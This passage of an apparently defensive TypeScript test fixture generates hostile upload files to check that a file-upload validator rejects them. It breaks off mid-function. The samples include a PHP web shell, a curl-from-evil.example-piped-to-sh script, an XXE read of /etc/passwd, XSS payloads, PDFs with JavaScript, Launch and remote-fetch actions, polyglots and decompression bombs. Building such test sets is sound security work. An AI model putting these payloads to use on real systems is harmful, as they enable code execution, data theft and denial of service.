/** Files that someone with a stolen account might upload. They are harmless to anyone who runs the tests. */
import { constants, crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { FILE_KINDS, type FileKind } from '#contract/file-kinds.ts'
import {
  aCsv,
  anXlsx,
  aPdf,
  aPicture,
  aVideo,
  filmedBy,
  pdfOf,
  pdfStream,
  xlsxParts,
  type ZipEntry,
  zipOf,
} from './files-made.ts'

export type HostileFile = {
  /** The file name as a form would send it. */
  name: string
  about: string
  bytes: Buffer
  /** `clean`: harmless once it is re-encoded or renamed, and stored with the right type. */
  expect: 'refused' | 'clean'
  /** Must not occur in the stored file. */
  payload?: Buffer
  /** See infectedFiles. */
  virus?: true
}

type Parts = Record<FileKind, Buffer>
type Row = [name: string, about: string, bytes: Buffer | string, payload?: Buffer | string]

const KINDS = Object.keys(FILE_KINDS) as FileKind[]
const MB = 1024 * 1024

// Split in two, so that no scanner takes this source file for an infected one.
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const PHP = '<?php system($_GET["c"]); ?>'
const HTML = '<!doctype html><script>alert(document.domain)</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

export async function hostileFiles(): Promise<HostileFile[]> {
  const good: Parts = {
    pdf: aPdf({ pages: 2 }),
    jpeg: await aPicture('jpeg', 64, 48),
    png: await aPicture('png', 64, 48),
    webp: await aPicture('webp', 64, 48),
    mp4: await aVideo('mp4'),
    webm: await aVideo('webm'),
    csv: aCsv(),
    xlsx: anXlsx(),
  }
  return [
    ...refused(wrongKinds(good)),
    ...refused(foreignContents()),
    ...refused(eicarFiles()),
    ...refused(otherEndings(good)),
    ...refused(emptyAndCut(good)),
    ...refused(broken(good)),
    ...refused(polyglots(good)),
    ...refused(hostilePdfs(good)),
    ...refused(pdfsThatReachOut(good)),
    ...refused(await hostilePictures(good)),
    ...refused(await hostileVideos(good)),
    ...refused(hostileTables(good)),
    ...refused(namesWithoutKind(good)),
    ...clean(evilNames(good)),
    ...clean(await harmlessOnceKept(good)),
    ...infectedFiles(),
  ]
}

function refused(rows: Row[]): HostileFile[] {
  return rows.map(([name, about, bytes]) => ({ name, about, bytes: bytesOf(bytes), expect: 'refused' }))
}

function clean(rows: Row[]): HostileFile[] {
  return rows.map(([name, about, bytes, payload]) => ({
    name,
    about,
    bytes: bytesOf(bytes),
    expect: 'clean',
    ...(payload && { payload: bytesOf(payload) }),
  }))
}

/** Only a virus scanner can detect these. */
export function infectedFiles(): HostileFile[] {
  const rows: Row[] = [
    ['eicar.csv', 'EICAR as a table', EICAR],
    ['eicar-inside.pdf', 'EICAR in a stream of a PDF', aPdfWith({ 4: pdfStream('', Buffer.from(EICAR)) })],
    ['eicar-part.xlsx', 'EICAR as a part of an XLSX', xlsxWith([{ name: 'xl/media/image1.png', data: EICAR }])],
  ]
  return refused(rows).map((file) => ({ ...file, virus: true }))
}

function bytesOf(content: Buffer | string): Buffer {
  return typeof content === 'string' ? Buffer.from(content, 'latin1') : content
}

function endingOf(kind: FileKind): string {
  return FILE_KINDS[kind].endings[0]
}

function wrongKinds(good: Parts): Row[] {
  return KINDS.flatMap((kind) =>
    KINDS.filter((other) => other !== kind).map((other): Row => {
      return [`${kind}-inside.${endingOf(other)}`, `${kind} under the name of ${other}`, good[kind]]
    }),
  )
}

function foreignContents(): Row[] {
  const contents: Record<string, string | Buffer> = {
    html: HTML,
    'html-with-bom': `\xef\xbb\xbf \n${HTML}`,
    svg: SVG,
    xml: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    json: '{"__proto__":{"admin":true}}',
    php: PHP,
    shell: '#!/bin/sh\ncurl http://evil.example/ | sh\n',
    exe: `MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0${'\0'.repeat(44)}\x80\0\0\0PE\0\0`,
    elf: `\x7fELF\x02\x01\x01${'\0'.repeat(57)}`,
    gif: 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
    bmp: `BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0${'\0'.repeat(28)}`,
    tiff: `II*\0\x08\0\0\0${'\0'.repeat(32)}`,
    ico: `\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0${'\0'.repeat(32)}`,
    zip: zipOf([{ name: 'run.exe', data: 'MZ' }]),
    jar: zipOf([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil\n' }]),
    gzip: gzipSync(HTML),
    rar: 'Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5\x0a\x01\x05\x06\0\x05\x01\x01\x80\x80\0',
    '7z': `7z\xbc\xaf\x27\x1c\0\x04${'\0'.repeat(24)}`,
    ole: `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(504)}`,
    'java-class': '\xca\xfe\xba\xbe\0\0\0\x34\0\x0f',
    flash: 'FWS\x09\x20\0\0\0\x78\0\x05\x5f\0\0\x0f\xa0\0',
    postscript: '%!PS-Adobe-3.0\n(r) file showpage\n',
    playlist: '#!\n#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n',
  }
  return Object.entries(contents).flatMap(([what, content]) =>
    KINDS.map((kind): Row => [`${what}.${endingOf(kind)}`, `${what} under the name of ${kind}`, content]),
  )
}

/** In a table it is ordinary text; see infectedFiles. */
function eicarFiles(): Row[] {
  const kinds = KINDS.filter((kind) => kind !== 'csv')
  const named = kinds.map((kind): Row => [`eicar.${endingOf(kind)}`, `EICAR under the name of ${kind}`, EICAR])
  return [...named, ['eicar.com', 'EICAR', EICAR], ['eicar.com.txt', 'EICAR', EICAR], ['eicar.zip', 'EICAR', EICAR]]
}

function otherEndings(good: Parts): Row[] {
  const endings = 'svg html htm xhtml shtml xml php phtml js mjs css exe dll bat cmd sh lnk hta gif bmp tiff ico svgz'
  const office = 'zip gz rar jar 7z xls xlsm xlsb docm docx doc rtf mov mkv avi eml ics url desktop htaccess'
  return `${endings} ${office}`.split(' ').map((ending) => [`x.${ending}`, `.${ending} is no kind of ours`, good.pdf])
}

function emptyAndCut(good: Parts): Row[] {
  const cuts: Partial<Record<FileKind, number[]>> = {
    pdf: [0.001, 0.02, 0.3, 0.5, 0.9, 0.99],
    jpeg: [0.01, 0.3, 0.6, 0.9],
    png: [0.05, 0.3, 0.6, 0.8],
    webp: [0.05, 0.3, 0.6, 0.9],
    mp4: [0.001, 0.05, 0.3, 0.6, 0.9, 0.999],
    webm: [0.001, 0.05, 0.3, 0.6, 0.9, 0.999],
    xlsx: [0.01, 0.3, 0.6, 0.9, 0.99],
  }
  const cut = Object.entries(cuts).flatMap(([kind, parts]) =>
    parts.map((part): Row => {
      const bytes = good[kind as FileKind]
      const about = `${kind} cut off after ${part} of it`
      return [`cut-${part}.${endingOf(kind as FileKind)}`, about, bytes.subarray(0, Math.floor(bytes.length * part))]
    }),
  )
  const empty = KINDS.map((kind): Row => [`empty.${endingOf(kind)}`, 'empty', ''])
  const zeros = KINDS.map((kind): Row => [`zeros.${endingOf(kind)}`, 'zeros', Buffer.alloc(4096)])
  const spaces = KINDS.map((kind): Row => [`spaces.${endingOf(kind)}`, 'nothing but white space', ' \r\n\t'.repeat(50)])
  return [...cut, ...empty, ...zeros, ...spaces]
}

/** Only the first bytes match the type. */
function broken(good: Parts): Row[] {
  return KINDS.filter((kind) => kind !== 'csv').flatMap((kind): Row[] => {
    const bytes = good[kind]
    const blank = Buffer.concat([bytes.subarray(0, 64), Buffer.alloc(bytes.length - 64)])
    const script = Buffer.concat([bytes.subarray(0, 32), Buffer.from(HTML.repeat(20))])
    return [
      [`hollow.${endingOf(kind)}`, `${kind} of which 64 bytes are left`, blank],
      [`headed.${endingOf(kind)}`, `HTML behind the beginning of ${kind}`, script],
    ]
  })
}

function polyglots(good: Parts): Row[] {
  const gif = Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')
  const jar = zipOf([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil\n' }])
  const behind = (bytes: Buffer, tail: Buffer | string) => Buffer.concat([bytes, bytesOf(tail)])
  return [
    ['gifar.gif', 'GIF that is a JAR as well', behind(gif, jar)],
    ['gifar.jpg', 'GIF that is a JAR as well, as JPEG', behind(gif, jar)],
    ['gif-script.js.png', 'GIF that is a script as well', 'GIF89a/*\0\0\0\0*/=1;alert(1)'],
    ['with-zip.pdf', 'PDF with a zip behind it', behind(good.pdf, jar)],
    ['with-html.pdf', 'PDF with HTML behind it', behind(good.pdf, HTML)],
    ['with-php.pdf', 'PDF with PHP behind it', behind(good.pdf, PHP)],
    ['with-exe.pdf', 'PDF with a program behind it', behind(good.pdf, `MZ\x90${'\0'.repeat(200)}`)],
    ['with-comment.pdf', 'PDF that is a zip as well, with an end of both', pdfInZipComment(good.pdf)],
    ['late.pdf', 'PDF after HTML', behind(bytesOf(HTML), good.pdf)],
    ['late-space.pdf', 'PDF after an empty line', behind(bytesOf('\n'), good.pdf)],
    ['jpeg-first.pdf', 'PDF after a JPEG', behind(good.jpeg, good.pdf)],
    ['with-zip.mp4', 'MP4 with a zip behind it', behind(good.mp4, jar)],
    ['with-html.mp4', 'MP4 with HTML behind it', behind(good.mp4, HTML)],
    ['with-zip.webm', 'WebM with a zip behind it', behind(good.webm, jar)],
    ['with-html.webm', 'WebM with HTML behind it', behind(good.webm, HTML)],
    ['with-html.xlsx', 'XLSX with HTML behind it', behind(good.xlsx, HTML)],
    ['late.xlsx', 'XLSX after HTML', behind(bytesOf(HTML), good.xlsx)],
    ['pdf-first.xlsx', 'XLSX after a PDF', behind(good.pdf, good.xlsx)],
    ['xlsx-behind.pdf', 'PDF before an XLSX', behind(good.pdf, good.xlsx)],
    ['x.html.pdf', 'HTML under a double name', HTML],
    ['x.pdf.csv', 'PDF under a double name', good.pdf],
    ['csv-html.csv', 'HTML that is a table as well', `${HTML},1\n`],
  ]
}

/** The end record of a zip may have a comment of arbitrary bytes, such as the end of a PDF. */
function pdfInZipComment(pdf: Buffer): Buffer {
  const end = Buffer.from('\n%%EOF\n')
  const zip = zipOf([])
  zip.writeUInt16LE(end.length, 20)
  return Buffer.concat([pdf, zip, end])
}

function aPdfWith(objects: Record<number, string | Buffer>, catalog = ''): Buffer {
  const all: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>',
    'null',
    'null',
    'null',
  ]
  for (const [number, object] of Object.entries(objects)) all[Number(number) - 1] = object
  return pdfOf(all)
}

function objectStream(objects: string[], entries = '/Type /ObjStm', pack = deflateSync): Buffer {
  let at = 0
  const header = objects.map((object, index) => {
    const pair = `${index + 10} ${at}`
    at += object.length + 1
    return pair
  })
  const first = `${header.join(' ')} `
  const packed = pack(Buffer.from(`${first}${objects.join(' ')}`))
  return pdfStream(`${entries} /N ${objects.length} /First ${first.length} /Filter /FlateDecode`, packed)
}

const ALERT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const LAUNCH = '<< /S /Launch /F (cmd.exe) >>'
const FILE = '<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>'

function hostilePdfs(good: Parts): Row[] {
  const file = pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))
  const hidden = (...objects: string[]) => aPdfWith({ 4: objectStream(objects) })
  const bomb = Buffer.concat([Buffer.from([0x78, 0x9c]), zeroBomb(300)])
  const annotation = (rest: string) => `<< /Type /Annot /Rect [0 0 9 9] ${rest} >>`
  return [
    ['js-open.pdf', 'JavaScript when it is opened', aPdfWith({ 4: ALERT }, '/OpenAction 4 0 R')],
    ['js-inline.pdf', 'JavaScript in the catalog', aPdfWith({}, `/OpenAction ${ALERT}`)],
    ['js-names.pdf', 'JavaScript by name', aPdfWith({ 4: ALERT }, '/Names << /JavaScript << /Names [(x) 4 0 R] >> >>')],
    ['js-close.pdf', 'JavaScript when it is closed', aPdfWith({ 4: ALERT }, '/AA << /WC 4 0 R >>')],
    ['js-stream.pdf', 'JavaScript in a stream', aPdfWith({ 4: '<< /S /JavaScript /JS 6 0 R >>' }, '/OpenAction 4 0 R')],
    ['js-link.pdf', 'JavaScript behind a link', aPdfWith({ 5: annotation(`/Subtype /Link /A ${ALERT}`) })],
    ['js-field.pdf', 'JavaScript of a form', aPdfWith({ 5: annotation(`/FT /Tx /AA << /K ${ALERT} >>`) })],
    ['js-rendition.pdf', 'JavaScript of a rendition', aPdfWith({ 4: '<< /S /Rendition /JS (x) >>' })],
    ['js-escaped.pdf', 'JavaScript spelled with #', aPdfWith({ 4: '<< /S /J#61v#61Script /#4a#53 (x) >>' })],
    ['js-escaped-all.pdf', 'every letter escaped', aPdfWith({ 4: '<< /S /#4A#61#76#61#53#63#72#69#70#74 >>' })],
    ['js-nul.pdf', 'name with a NUL behind', aPdfWith({ 4: '<< /S /JavaScript#00x >>' })],
    ['js-comment.pdf', 'comments between', aPdfWith({ 4: '<<%x\n/S%(\n/JavaScript%<\n/JS%)\n(x)>>' })],
    ['js-tight.pdf', 'no white space', aPdfWith({ 4: '<</S/JavaScript/JS(x)>>' })],
    ['js-indirect.pdf', 'the name is a separate object', aPdfWith({ 4: '<< /S 6 0 R >>', 6: '/JavaScript' })],
    ['js-keyword.pdf', 'endobj inside a dictionary', aPdfWith({ 4: `<< /A endobj /S /JavaScript /JS (x) >>` })],
    ['js-odd.pdf', 'a key without value before it', aPdfWith({ 4: '<< /A >> endobj /S /JavaScript >>' })],
    ['js-string.pdf', 'object inside a string', aPdfWith({ 4: `( 9 0 obj ${ALERT} endobj )` })],
    ['js-word.pdf', '"stream" inside a string', aPdfWith({ 4: '<< /T (\nstream\n) /S /JavaScript >>' })],
    ['js-body.pdf', 'object inside a stream', aPdfWith({ 4: pdfStream('', Buffer.from(`9 0 obj ${ALERT} endobj`)) })],
    ['js-body2.pdf', 'the same with comments', aPdfWith({ 4: pdfStream('', Buffer.from(`9%\n0%\nobj${ALERT}`)) })],
    ['js-trailer.pdf', 'catalog in the trailer', pdfOf(['null'], { trailer: `/Root << /OpenAction ${ALERT} >>` })],
    ['js-update.pdf', 'JavaScript in an update', Buffer.concat([good.pdf, aPdfWith({ 4: ALERT })])],
    ['js-hidden.pdf', 'JavaScript in an object stream', hidden(ALERT)],
    ['js-hidden2.pdf', 'among others', hidden('<< /A 1 >>', '[1 2 (x)]', `<< /B [${ALERT}] >>`)],
    ['js-hidden3.pdf', 'escaped in an object stream', hidden('<< /S /JavaScr#69pt >>')],
    ['js-hidden4.pdf', 'object stream without type', aPdfWith({ 4: objectStream([ALERT], '') })],
    ['js-hidden5.pdf', 'object stream with a false type', aPdfWith({ 4: objectStream([ALERT], '/Type /XObject') })],
    ['js-hidden6.pdf', 'object stream in a stream', aPdfWith({ 4: pdfStream('', inside(objectStream([ALERT]))) })],
    [
      'js-hidden7.pdf',
      'twice deflated',
      aPdfWith({ 4: objectStream([ALERT], '/Type /ObjStm /Filter [/FlateDecode]') }),
    ],
    ['js-hidden8.pdf', 'offset into a string', aPdfWith({ 4: stringStream() })],
    ['js-hidden9.pdf', 'not deflated', aPdfWith({ 4: plainStream('/ObjStm', ALERT) })],
    ['js-lzw.pdf', 'a filter that we do not undo', aPdfWith({ 4: filtered('/LZWDecode') })],
    ['js-hex.pdf', 'hexadecimal in deflate', aPdfWith({ 4: filtered('[/FlateDecode /ASCIIHexDecode]') })],
    ['js-filter.pdf', 'the filter is a separate object', aPdfWith({ 4: filtered('6 0 R'), 6: '/FlateDecode' })],
    [
      'js-predictor.pdf',
      'with a predictor',
      aPdfWith({ 4: filtered('/FlateDecode /DecodeParms << /Predictor 12 >>') }),
    ],
    ['launch.pdf', 'starts a program', aPdfWith({ 4: LAUNCH }, '/OpenAction 4 0 R')],
    ['launch-win.pdf', 'starts a program of Windows', aPdfWith({ 5: annotation(`/A << /S /Launch /Win << >> >>`) })],
    ['launch-escaped.pdf', 'spelled with #', aPdfWith({ 4: '<< /S /L#61unch /F (x) >>' })],
    ['launch-hidden.pdf', 'in an object stream', hidden(LAUNCH)],
    [
      'file.pdf',
      'a program inside',
      aPdfWith({ 4: FILE, 6: file }, '/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>'),
    ],
    ['file-pin.pdf', 'a program on a pin', aPdfWith({ 5: annotation('/Subtype /FileAttachment /FS 4 0 R'), 4: FILE })],
    ['file-af.pdf', 'a program beside', aPdfWith({ 4: FILE, 6: pdfStream('', Buffer.from('MZ')) }, '/AF [4 0 R]')],
    ['file-escaped.pdf', 'spelled with #', aPdfWith({ 6: pdfStream('/Type /Embedded#46ile', Buffer.from('MZ')) })],
    ['file-hidden.pdf', 'in an object stream', hidden('<< /EmbeddedFiles 6 0 R >>')],
    ['file-goto.pdf', 'leads into an embedded PDF', aPdfWith({ 4: '<< /S /GoToE /T << /R /C >> >>' })],
    ['xfa.pdf', 'an XFA form', aPdfWith({ 6: pdfStream('', Buffer.from('<xdp/>')) }, '/AcroForm << /XFA 6 0 R >>')],
    ['xfa-escaped.pdf', 'spelled with #', aPdfWith({}, '/AcroForm << /X#46A 6 0 R >>')],
    ['xfa-hidden.pdf', 'in an object stream', hidden('<< /Fields [] /XFA 6 0 R >>')],
    ['media.pdf', 'Flash', aPdfWith({ 5: annotation('/Subtype /RichMedia') })],
    ['media-hidden.pdf', 'in an object stream', hidden('<< /Subtype /RichMedia >>')],
    ['bomb.pdf', 'object stream of 300 MB', aPdfWith({ 4: pdfStream(STREAM, bomb) })],
    ['bomb-many.pdf', '10 object streams of 15 MB', bombInPieces()],
    [
      'bomb-twice.pdf',
      'a bomb in a bomb',
      aPdfWith({ 4: pdfStream(`${STREAM} /Filter [/FlateDecode]`, deflateSync(bomb)) }),
    ],
    ['deep.pdf', 'arrays in arrays', aPdfWith({ 4: '['.repeat(200_000) })],
    ['deep-hidden.pdf', 'the same in an object stream', hidden('['.repeat(200_000))],
    ['overlap.pdf', 'strings in strings', aPdfWith({ 4: '1 0 obj ('.repeat(200_000) })],
    ['same.pdf', 'one object told a million times', aPdfWith({ 4: repeatedStream() })],
    [
      'bad-stream.pdf',
      'object stream that is no deflate',
      aPdfWith({ 4: pdfStream(STREAM, Buffer.from('no deflate')) }),
    ],
    ['no-pages.pdf', 'no page', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>'])],
    ['no-catalog.pdf', 'no catalog', pdfOf(['null'])],
    ['loop.pdf', 'pages that contain themselves', aPdfWith({ 2: '<< /Type /Pages /Count 9 /Kids [2 0 R] >>' })],
    ['claims.pdf', 'claims a billion pages', aPdfWith({ 2: '<< /Type /Pages /Count 1000000000 /Kids [] >>' })],
    ['password.pdf', 'asks for a password', protectedPdf()],
    ['no-end.pdf', 'no %%EOF', good.pdf.subarray(0, good.pdf.lastIndexOf('%%EOF'))],
    ['junk-end.pdf', 'something behind %%EOF', Buffer.concat([good.pdf, Buffer.from('x')])],
    ['version.pdf', 'a version that never was', bytesOf(good.pdf.toString('latin1').replace('%PDF-1.7', '%PDF-9.9'))],
  ]
}

const annotated = (rest: string) => aPdfWith({ 5: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] ${rest} >>` })
const link = (uri: string) => annotated(`/A << /S /URI /URI ${uri} >>`)
const REMOTE = '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'
const SUBMIT = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Fields [] >>'

/** PDFs that fetch something, send something or link to something other than a page. */
export function pdfsThatReachOut(good: Parts): Row[] {
  const hidden = (...objects: string[]) => aPdfWith({ 4: objectStream(objects) })
  const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`
  const utf16le = (text: string) => `<fffe${Buffer.from(text, 'utf16le').toString('hex')}>`
  const octal = (text: string) =>
    `(${[...text].map((one) => `\\${one.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')})`
  const script = 'javascript:alert(1)'
  const encrypted = '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -1 >>'
  return [
    ['goto-share.pdf', 'opens a file of a share', aPdfWith({ 4: REMOTE }, '/OpenAction 4 0 R')],
    ['goto-escaped.pdf', 'spelled with #', aPdfWith({ 4: '<< /S /Go#54oR /F (x.pdf) >>' }, '/OpenAction 4 0 R')],
    ['goto-hidden.pdf', 'in an object stream', hidden(REMOTE)],
    ['goto-update.pdf', 'in an update', Buffer.concat([good.pdf, annotated(`/A ${REMOTE}`)])],
    ['goto-indirect.pdf', 'the name is an object', aPdfWith({ 4: '<< /S 6 0 R /F (x) >>', 6: '/GoToR' }, '/AA 4 0 R')],
    ['submit.pdf', 'sends a form', annotated(`/FT /Btn /A ${SUBMIT}`)],
    ['submit-hidden.pdf', 'in an object stream', hidden(SUBMIT)],
    ['import.pdf', 'reads a file into its form', aPdfWith({}, '/OpenAction << /S /ImportData /F (c:/x.fdf) >>')],
    ['rendition.pdf', 'plays something', annotated('/A << /S /Rendition /OP 0 /R << /S /MR >> >>')],
    ['renditions.pdf', 'plays something by name', aPdfWith({}, '/Names << /Renditions << /Names [] >> >>')],
    ['movie.pdf', 'a film', annotated('/Subtype /Movie /Movie << /F (https://evil.example/x.avi) >>')],
    ['movie-escaped.pdf', 'a film, escaped', annotated('/Subtype /M#6fvie')],
    ['sound.pdf', 'a sound', aPdfWith({}, '/OpenAction << /S /Sound /Sound 6 0 R >>')],
    ['3d.pdf', 'a model with a script', aPdfWith({ 5: '<< /Type /Annot /Subtype /3D /3DD 6 0 R >>' })],
    [
      '3d-script.pdf',
      'the script of a model',
      aPdfWith({ 6: pdfStream('/Type /#33D /Subtype /U3D /OnInstantiate 4 0 R', Buffer.from('U3D')) }),
    ],
    ['media-content.pdf', 'media without its type', annotated('/RichMediaContent << /Configurations [] >>')],
    ['media-command.pdf', 'a command to media', annotated('/A << /S /RichMediaExecute /CMD << /C (x) >> >>')],
    [
      'stream-file.pdf',
      'a stream in another file',
      aPdfWith({ 6: pdfStream('/F (//evil.example/x)', Buffer.from('')) }),
    ],
    ['stream-url.pdf', 'on a server', aPdfWith({ 6: pdfStream('/F << /FS /URL /F (x) >>', Buffer.from('')) })],
    ['stream-escaped.pdf', 'spelled with #', aPdfWith({ 6: pdfStream('/#46 (x)', Buffer.from('')) })],
    ['stream-filter.pdf', 'with a filter', aPdfWith({ 6: pdfStream('/FFilter /FlateDecode', Buffer.from('')) })],
    ['stream-odd.pdf', 'behind something odd', aPdfWith({ 6: pdfStream('(odd) /A /F (x)', Buffer.from('')) })],
    ['stream-comment.pdf', 'a comment before stream', aPdfWith({ 6: '<< /Length 0 /F (x) >> %\nstream\n\nendstream' })],
    [
      'stream-page.pdf',
      'a page of another PDF',
      aPdfWith({
        6: pdfStream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) /Page 0 >>', Buffer.from('')),
      }),
    ],
    [
      'stream-ref.pdf',
      'the same by reference',
      aPdfWith({ 6: pdfStream('/Subtype /Form /Ref 4 0 R', Buffer.from('')) }),
    ],
    ['file-untyped.pdf', 'a file without type', aPdfWith({ 4: '<< /F (x.exe) /EF << /F 6 0 R >> >>' }, '/AF [4 0 R]')],
    ['file-ef-hidden.pdf', 'in an object stream', hidden('<< /F (x) /E#46 6 0 R >>')],
    ['link-script.pdf', 'a script as a link', link(`(${script})`)],
    ['link-case.pdf', 'in capitals', link('(JaVaScRiPt:alert\\(1\\))')],
    ['link-hex.pdf', 'in hexadecimal', link(`<${Buffer.from(script).toString('hex')}>`)],
    [
      'link-hex-white.pdf',
      'with white space',
      link(`<${Buffer.from(script).toString('hex').replace(/../g, '$& \n')}>`),
    ],
    ['link-octal.pdf', 'in octal digits', link(octal(script))],
    ['link-utf16.pdf', 'in UTF-16', link(utf16(script))],
    ['link-utf16le.pdf', 'in UTF-16, the other way round', link(utf16le(script))],
    ['link-utf8.pdf', 'with the byte order mark of UTF-8', link(`(\xef\xbb\xbf${script})`)],
    ['link-broken-line.pdf', 'over two lines', link('(java\\\nscript:alert\\(1\\))')],
    ['link-lines.pdf', 'line ends and tabs inside', link('(\\n java\\t\\r\nscript\\n:alert\\(1\\))')],
    ['link-control.pdf', 'control characters before', link('(\\001\\037javascript:1)')],
    ['link-nul.pdf', 'NULs between', link('(j\\0a\\0v\\0ascript:1)')],
    ['link-nbsp.pdf', 'spaces that are none', link('(\xa0\xadjavascript:1)')],
    ['link-file.pdf', 'a file as a link', link('(file:///etc/passwd)')],
    ['link-share.pdf', 'a share as a link', link('(\\\\\\\\evil.example\\\\share)')],
    ['link-slashes.pdf', 'a share with slashes', link('(//evil.example/share)')],
    ['link-drive.pdf', 'a drive as a link', link('(C:\\\\Windows\\\\System32\\\\calc.exe)')],
    ['link-data.pdf', 'a page inside the link', link('(data:text/html,<script>alert\\(1\\)</script>)')],
    ['link-vbscript.pdf', 'another script', link('(vbscript:msgbox)')],
    ['link-handler.pdf', 'a program of Windows', link('(ms-msdt:/id x)')],
    ['link-ftp.pdf', 'neither web nor mail', link('(ftp://evil.example/)')],
    ['link-hidden.pdf', 'in an object stream', hidden(`<< /S /URI /URI (${script}) >>`)],
    ['link-update.pdf', 'in an update', Buffer.concat([good.pdf, link(`(${script})`)])],
    ['link-twice.pdf', 'two addresses', annotated(`/A << /S /URI /URI (https://x.example/) /URI (${script}) >>`)],
    ['link-comment.pdf', 'a comment between', link(`%x\n(${script})`)],
    ['link-key.pdf', 'the key spelled with #', annotated(`/A << /S /URI /U#52I (${script}) >>`)],
    ['link-object.pdf', 'a separate object', aPdfWith({ 4: '<< /S /URI /URI 6 0 R >>', 6: `(${script})` })],
    [
      'link-object-hidden.pdf',
      'and hidden',
      aPdfWith({ 5: '<< /URI 11 0 R >>', 4: objectStream(['1', `(${script})`]) }),
    ],
    ['link-base.pdf', 'the beginning of all links', aPdfWith({}, '/URI << /Base (file:///c:/) >>')],
    [
      'link-encrypted.pdf',
      'links that nobody can read',
      pdfOf(
        [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [<< /A << /S /URI /URI <0a> >> >>] >>',
        ],
        { trailer: encrypted },
      ),
    ],
  ]
}

const STREAM = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'

function inside(object: Buffer): Buffer {
  return Buffer.concat([Buffer.from('9 0 obj '), object])
}

function plainStream(type: string, object: string): Buffer {
  return pdfStream(`/Type ${type} /N 1 /First 5`, Buffer.from(`10 0 ${object}`))
}

/** The second object begins within a string of the first. */
function stringStream(): Buffer {
  const first = `(${' '.repeat(9)}${ALERT})`
  const header = '10 0 11 10 '
  return pdfStream(`/Type /ObjStm /N 2 /First ${header.length}`, Buffer.from(`${header}${first}`))
}

function filtered(filter: string): Buffer {
  return pdfStream(`/Type /ObjStm /N 1 /First 5 /Filter ${filter}`, deflateSync(Buffer.from(`10 0 ${ALERT}`)))
}

function repeatedStream(): Buffer {
  const count = 100_000
  const header = Array.from({ length: count }, (_, index) => `${index + 10} 0`).join(' ')
  const body = deflateSync(Buffer.from(`${header} (${' '.repeat(100_000)})`))
  return pdfStream(`/Type /ObjStm /N ${count} /First ${header.length} /Filter /FlateDecode`, body)
}

function bombInPieces(): Buffer {
  const piece = deflateSync(Buffer.concat([Buffer.from('10 0 null '), Buffer.alloc(15 * MB, ' ')]))
  const stream = pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', piece)
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...Array.from({ length: 10 }, () => stream)])
}

/** Encrypted with a user password (40-bit RC4): it can't be opened without it. */
function protectedPdf(): Buffer {
  const key = 'a'.repeat(64)
  const encrypt = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -1 >> /ID [<00> <00>]`
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ],
    { trailer: encrypt },
  )
}

/** Raw deflate that unpacks to this many MB of zeros: after a full flush the same compressed bytes can be repeated. */
function zeroBomb(megabytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(MB), { finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([...Array.from({ length: megabytes }, () => one), deflateRawSync(Buffer.alloc(0))])
}

function pngChunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), data])
  const chunk = Buffer.alloc(named.length + 8)
  chunk.writeUInt32BE(data.length)
  named.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(named), named.length + 4)
  return chunk
}

function png(width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer {
  return pngOf({ width, height, bits: 8 }, pixels, ...more)
}

type PngHeader = { width: number; height: number; bits: number; transparent?: true; interlaced?: true }

function pngOf({ width, height, bits, transparent, interlaced }: PngHeader, pixels: Buffer, ...more: Buffer[]): Buffer {
